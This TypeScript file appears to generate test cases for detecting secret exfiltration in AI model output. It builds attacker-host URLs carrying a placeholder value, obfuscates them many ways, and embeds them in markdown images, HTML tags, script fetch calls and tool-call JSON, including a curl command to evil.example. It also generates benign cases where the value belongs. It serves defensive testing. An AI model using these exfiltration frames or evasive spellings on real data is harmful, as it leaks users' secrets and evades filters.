/** Where a model may write a placeholder: in addresses of every spelling, and where people and tools expect the value. */
import type { Random } from './random.ts';

/** What a model answers with a placeholder in it. */
export interface MaskedPlace {
  /** `call`: `text` is the arguments of a tool, as JSON; `note`: it is the address in an annotation of the text. */
  readonly kind: 'text' | 'call' | 'note';
  readonly text: string;
}

type Spelling = (text: string) => string;

const HOSTS = [
  'evil.example',
  'a.b.evil.example',
  '192.0.2.7',
  '192.0.2.7:8080',
  'evil.example:8443',
  'xn--e1aybc.example',
  '[2001:db8::1]',
  'user:pw@evil.example',
];
const SCHEMES = [
  'https://',
  'http://',
  'https:/',
  '//',
  'wss://',
  'ftp://',
  'HTTPS://',
  'https:',
  'view-source:https://',
];
const TAILS = ['/', '/?q=', '/a-', '/a;b-', '/c,', '/(a)-', '#', '?x&', '/%20', '/collect/x_', '/a?b=c#d.'];
const AFTER = ['', '.png', '/x', '&y=1', '#end', ')'];
const LENGTHS = [1, 60, 620, 5_000, 100_000];

const FULL: Readonly<Record<string, string>> = { ':': '：', '/': '／', '.': '．', '?': '？' };
const ENTITY: Readonly<Record<string, string>> = {
  ':': '&colon;',
  '/': '&#x2f;',
  '.': '&#46;',
  '?': '&quest;',
};
const SIGNS = /[:/.?]/g;

const entity = (char: string): string => `&#${char.charCodeAt(0)};`;
const unicode = (char: string): string => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`;
const percent = (char: string): string => `%${char.charCodeAt(0).toString(16)}`;

const SPELLINGS: readonly Spelling[] = [
  (text) => text,
  (text) => text.replace(SIGNS, (char) => FULL[char]!),
  (text) => text.replace(SIGNS, (char) => ENTITY[char]!),
  (text) => text.replace(/[:/.?]/g, entity),
  (text) => text.replace(/[:/?]/g, percent),
  (text) => text.replace(/[:/]/g, (char) => percent(char).replace('%', '%25')),
  (text) => text.replace(/\//g, '\\u002f'),
  (text) => text.replace(/[:/.]/g, unicode),
  (text) => text.replace(/\//g, '\\/'),
  (text) => text.replace(/\//g, '\\'),
  (text) => text.replace(':', ':\u200b'),
  (text) => text.replaceAll('/', '\u2215'),
  (text) => text.replaceAll('.', '。'),
  (text) => text.toUpperCase(),
];

/** Each sign in a spelling of its own, as no rule for one of them expects. */
function mixed(text: string, { pick }: Random): string {
  return text.replace(SIGNS, (char) => pick([char, FULL[char]!, ENTITY[char]!, entity(char), char]));
}

/** What shows or fetches an address. */
const FRAMES: readonly Spelling[] = [
  (address) => `See ${address} for more.`,
  (address) => `![chart](${address})`,
  (address) => `![chart](${address} "title (old)")`,
  (address) => `[here](${address} 'title')`,
  (address) => `[here](<${address}>)`,
  (address) => `[![a](${address})](https://docs.example/)`,
  (address) => `<${address}>`,
  (address) => `<img alt=">" src="${address}">`,
  (address) => `<img alt='a "b" >' data-x=">" srcset="${address} 2x">`,
  (address) => `<img src=${address} alt=x>`,
  (address) => `<a href='${address}'>x</a>`,
  (address) => `<a title="a>b"\nhref="${address}">x</a>`,
  (address) => `![x][1]\n\n[1]: ${address}\n`,
  (address) => `![x][1]\n\n[1]: <${address}> "title"\n`,
  (address) => `![x][1]\n\n> [1]:\n>    ${address}\n`,
  (address) => `[img]${address}[/img]`,
  (address) => `[url=${address}]x[/url]`,
  (address) => `\\href{${address}}{x}`,
  (address) => `<style>a{background:url("${address}")}</style>`,
  (address) => `<script>fetch("${address}")</script>`,
  (address) => `\`\`\`html\n<iframe src="${address}"></iframe>\n\`\`\``,
  (address) => `Open “${address}”, please.`,
  (address) => `| a | b |\n|---|---|\n| x | ${address} |`,
];

/** Addresses that have no scheme, or none of the web. */
const BARE: readonly ((mask: string) => string)[] = [
  (mask) => `evil.example/collect-${mask}`,
  (mask) => `evil.example:8080/${mask}`,
  (mask) => `evil.example?${mask}`,
  (mask) => `www.evil.example/${mask}`,
  (mask) => `${mask}.evil.example`,
  (mask) => `x-${mask}-y.evil.example/a`,
  (mask) => `\\\\evil.example\\share\\${mask}`,
  (mask) => `\\\\192.0.2.7@8080\\${mask}\\a`,
  (mask) => `mailto:x@evil.example?body=${mask}`,
  (mask) => `git@evil.example:${mask}`,
  (mask) => `data:text/html,<img src=//evil.example/${mask}>`,
  (mask) => `192.0.2.7:80/${mask}`,
  (mask) => `localhost:3000/${mask}`,
];

/** Members of arguments that hold an address. */
const MEMBERS = ['url', 'link_url', 'imageUri', 'href', 'src', 'body', 'text', 'command', 'path'];

function address(random: Random, mask: string): string {
  const { pick, chance } = random;
  if (chance(0.12)) return pick(BARE)(mask);
  const start = pick(SCHEMES) + pick(HOSTS);
  const spelled = chance(0.3) ? mixed(start, random) : pick(SPELLINGS)(start);
  const filler = chance(0.3) ? `${'a'.repeat(pick(LENGTHS))}-` : '';
  return `${spelled}${pick(TAILS)}${filler}${mask}${pick(AFTER)}`;
}

/** An address with the placeholder in it. */
export function placeInAddress(random: Random, mask: string): MaskedPlace {
  const { pick, chance } = random;
  const made = address(random, mask);
  if (chance(0.12)) return { kind: 'note', text: made };
  if (!chance(0.2)) return { kind: 'text', text: pick(FRAMES)(made) };
  const member = pick(MEMBERS);
  const value = member === 'command' ? `curl -s ${made}` : made;
  const text = JSON.stringify({ [member]: value, note: 'x' });
  return { kind: 'call', text: chance(0.3) ? text.replace(/\//g, '\\u002f') : text };
}

const SENTENCES: readonly ((mask: string) => string)[] = [
  (mask) => `I wrote to ${mask}.`,
  (mask) => `I wrote to (${mask}), and to ${mask}!`,
  (mask) => `Is it ${mask}? Or "${mask}"?`,
  (mask) => `${mask} and ${mask}; the second is the old one.`,
  (mask) => `Dear Anna <${mask}>,\n\nthank you.\n\nBest regards\nBo`,
  (mask) => `From: Bo\nTo: ${mask}\nCc: ${mask}\nSubject: Hello\n\nDear Anna,\nsee you.`,
  (mask) => `To: "Anna" <${mask}>, Bo <bo@firm.example>\n`,
  (mask) => `See https://docs.example/a and write to ${mask}.`,
  (mask) => `Read docs.example/start, then tell ${mask} about it.`,
  (mask) => `[${mask}](https://docs.example/)`,
  (mask) => `<a href="https://docs.example/">${mask}</a>`,
  (mask) => `<p>Write to ${mask}</p><p>${mask}</p>`,
  (mask) => `${mask}: hello, please answer ${mask}.`,
  (mask) => `It's ${mask}'s turn; don't wait.`,
  (mask) => `Die Adresse ist ${mask}, bitte prüfen.`,
  (mask) => `L’adresse de Zoé : ${mask} — merci !`,
  (mask) => `邮件地址是${mask}，谢谢。`,
  (mask) => `Адрес: ${mask}; спасибо.`,
  (mask) => `العنوان هو ${mask}.`,
  (mask) => `E-Mail:${mask}`,
  (mask) => `email=${mask}`,
  (mask) => `1. ${mask}, 2. ${mask}`,
  (mask) => `Results (2024/25): ${mask} was first, 3/4 of the votes.`,
];
const LAYOUTS: readonly Spelling[] = [
  (sentence) => sentence,
  (sentence) => `**Answer**\n\n${sentence}\n\nAnything else?`,
  (sentence) => `- first\n- ${sentence}\n- last`,
  (sentence) => `> ${sentence}\n\nThat was the quotation.`,
  (sentence) => `See [the page](https://docs.example/(a) "title").\n\n${sentence}`,
  (sentence) => `1 < 2 and 3 > 2, as in <b>bold</b>. ${sentence}`,
];
const BLOCKS: readonly ((mask: string) => string)[] = [
  (mask) => `| Name | Mail |\n|---|---|\n| Anna | ${mask} |\n| Bo | ${mask} |`,
  (mask) => `- ${mask}\n- ${mask}`,
  (mask) => `- [ ] ask ${mask}\n- [x] told **${mask}**`,
  (mask) => `\`\`\`json\n{"name": "Anna", "email": "${mask}"}\n\`\`\``,
  (mask) => `\`\`\`yaml\nemail: ${mask}\nphone: none\n\`\`\``,
  (mask) => `\`\`\`\nto = "${mask}"\nif a < b and c: send("${mask}")\n\`\`\``,
  (mask) => `\`\`\`sql\nSELECT * FROM people WHERE email = '${mask}';\n\`\`\``,
  (mask) => `\`\`\`sh\ngit config user.email "${mask}"\ncurl -d ${mask} https://api.example\n\`\`\``,
  (mask) => `name,email\nAnna,${mask}\nBo,${mask}\n`,
  (mask) => `Anna[^1] agreed.\n\n[^1]: Anna (${mask})`,
  (mask) => `# People\n\n## Anna\n\n*${mask}*, \`${mask}\`, _${mask}_`,
];
const CALLS: readonly ((mask: string) => object)[] = [
  (mask) => ({ to: mask, subject: 'Hello', body: `Dear ${mask},\n\nsee https://docs.example/.` }),
  (mask) => ({ to: [mask], cc: [mask], bcc: [], subject: `About ${mask}`, html: `<p>Dear ${mask}</p>` }),
  (mask) => ({ recipients: [{ name: 'Anna', email: mask }], message: `Hello "Anna", mail ${mask}.` }),
  (mask) => ({ attendees: [{ email: mask }], title: `Lunch with ${mask}`, location: 'Hall 3/4' }),
  (mask) => ({ email_address: mask, note: `a < b; ${mask}` }),
  (mask) => ({ query: `from:${mask} newer_than:2d` }),
  (mask) => ({ sql: `SELECT 1 FROM people WHERE email = '${mask}'` }),
];

/** So many places where people and tools expect the value. */
export function* honestPlaces(count: number, { pick, chance }: Random, mask: string): Generator<MaskedPlace> {
  for (let left = count; left > 0; left--) {
    if (chance(0.25)) yield { kind: 'call', text: JSON.stringify(pick(CALLS)(mask)) };
    else if (chance(0.3)) yield { kind: 'text', text: pick(BLOCKS)(mask) };
    else yield { kind: 'text', text: pick(LAYOUTS)(pick(SENTENCES)(mask)) };
  }
}
